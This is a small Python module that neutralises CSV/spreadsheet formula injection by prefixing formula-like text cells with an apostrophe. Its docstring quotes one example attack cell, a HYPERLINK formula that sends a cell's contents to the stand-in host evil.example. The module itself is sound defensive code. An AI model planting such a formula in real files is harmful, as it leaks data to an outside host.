"""CSV files that a spreadsheet opens as data, never as formulas.

Members choose their own display names and coordinators their cohort names, so a cell such as
``=HYPERLINK("http://evil.example/?x="&A2,"Dee")`` must not reach Excel or Sheets as a formula
(OWASP "CSV injection"): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe, which spreadsheets show as text and hide. Numbers
are written as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(cell: object) -> object:
    """``cell`` as a spreadsheet will read it as text, if it is text that looks like a formula."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """A UTF-8 CSV file of ``header`` and ``rows``, every cell made inert."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([inert(cell) for cell in header])
    writer.writerows([inert(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8")
